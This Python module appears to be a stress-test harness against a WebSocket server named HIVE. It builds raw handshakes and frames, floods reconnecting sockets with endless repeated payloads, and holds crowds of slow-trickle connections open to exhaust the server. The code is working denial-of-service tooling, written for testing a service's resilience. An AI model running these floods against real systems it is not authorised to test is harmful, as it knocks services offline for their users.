"""A stranger's end of connections, and what becomes of them. It uses nothing of HIVE."""

import base64
import itertools
import os
import select
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Self

HANDSHAKE = (
    "GET /ws{query} HTTP/1.1\r\nHost: hive\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n"
)
CLOSE_FRAME = 0x88
STUCK_SECONDS = 0.25
PAUSE_SECONDS = 0.02


@dataclass(frozen=True)
class Target:
    """Whom the attack is for. `token` is a user's own, for attacks by somebody with an account."""

    host: str
    port: int
    token: str


@dataclass
class Course:
    """One attack while it lasts: where it goes, until when, how large it is, and what became of its connections."""

    target: Target
    until: float
    is_full: bool
    ends: Counter[str] = field(default_factory=Counter)
    bytes_sent: int = 0
    _lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def is_over(self) -> bool:
        return time.monotonic() >= self.until

    def size(self, full: int, *, short: int) -> int:
        return full if self.is_full else short

    def note(self, end: str, count: int = 1) -> None:
        with self._lock:
            self.ends[end] += count

    def count_bytes(self, number: int) -> None:
        with self._lock:
            self.bytes_sent += number


class Stranger:
    """One connection. `end` is a status, a socket's close code, "closed", or None as long as it's open."""

    def __init__(self, course: Course) -> None:
        self._course = course
        self.end: str | None = None
        self._read = b""
        self._socket = socket.socket()
        try:
            self._socket.settimeout(2)
            self._socket.connect((course.target.host, course.target.port))
            self._socket.setblocking(False)
        except OSError:
            self.end = "refused"

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.look()
        self._course.note(self.end or "open")
        self._socket.close()

    def send(self, data: bytes) -> None:
        """Send it all, until the connection or the attack ends."""
        view = memoryview(data)
        while view and self.end is None and not self._course.is_over:
            try:
                sent = self._socket.send(view)
            except BlockingIOError:
                select.select([self._socket], [self._socket], [], STUCK_SECONDS)
                self.look()
                continue
            except OSError:
                self.look()
                self.end = self.end or "closed"
                return
            self._course.count_bytes(sent)
            view = view[sent:]

    def look(self) -> None:
        """Read what has come, as far as it tells how the connection ended."""
        while self.end is None:
            try:
                received = self._socket.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                received = b""
            if not received:
                self.end = self._meaning() or "closed"
                return
            self._read = (self._read + received)[-4096:] if self._read[:4] == b"HTTP" else received[-4096:]

    def until_answered(self) -> None:
        """Wait for the first answer: what follows a handshake too early is not read."""
        while self.end is None and not self._read and not self._course.is_over:
            time.sleep(PAUSE_SECONDS)
            self.look()

    def _meaning(self) -> str | None:
        """What the last answer said of the end."""
        status = self._read.rpartition(b"HTTP/1.1 ")[2][:3]
        at = self._read.rfind(bytes([CLOSE_FRAME]), max(len(self._read) - 127, 0))
        if at >= 0 and len(self._read) >= at + 4:
            return str(struct.unpack("!H", self._read[at + 2 : at + 4])[0])
        return status.decode() if status.isdigit() and status[:1] in b"45" else None


def handshake(query: str = "") -> bytes:
    return HANDSHAKE.format(query=query, key=base64.b64encode(os.urandom(16)).decode()).encode()


def frame(opcode: int, payload: bytes = b"", *, fin: bool = True) -> bytes:
    """A masked frame of less than 126 bytes, with the mask that changes nothing."""
    return bytes([opcode | (0x80 if fin else 0), 0x80 | len(payload), 0, 0, 0, 0]) + payload


def flood_sockets(course: Course, query: str, pieces: Callable[[], Iterator[bytes]]) -> None:
    """Send the pieces by four sockets, each made anew when it's ended."""
    flood(course, handshake(query), pieces, waits_for_answer=True)


def flood(
    course: Course,
    opening: bytes,
    pieces: Callable[[], Iterator[bytes]],
    *,
    connections: int = 4,
    waits_for_answer: bool = False,
) -> None:
    """Send the pieces by so many connections at once, each made anew when it's ended."""

    def run() -> None:
        while not course.is_over:
            with Stranger(course) as stranger:
                stranger.send(opening)
                if waits_for_answer:
                    stranger.until_answered()
                for piece in pieces():
                    stranger.send(piece)
                    stranger.look()
                    if stranger.end is not None or course.is_over:
                        break
                while stranger.end is None and not course.is_over:
                    time.sleep(PAUSE_SECONDS)
                    stranger.look()
            time.sleep(PAUSE_SECONDS)

    threads = [threading.Thread(target=run) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def endless(piece: bytes, *, at_once: int = 64 * 1024) -> Callable[[], Iterator[bytes]]:
    """The same again and again, some of it with each call of the system."""
    return lambda: itertools.repeat(piece * max(at_once // len(piece), 1))


def crowd(course: Course, opening: bytes, *, count: int, trickle: bytes = b"") -> None:
    """Keep so many connections as long as they last, each of which says a little more every second."""
    strangers = []
    for _ in range(count):
        stranger = Stranger(course)
        if opening:
            stranger.send(opening)
        strangers.append(stranger)
    while not course.is_over:
        for stranger in strangers:
            stranger.look()
            if trickle and stranger.end is None:
                stranger.send(trickle)
        time.sleep(min(1.0, max(course.until - time.monotonic(), 0)))
    for stranger in strangers:
        with stranger:
            pass
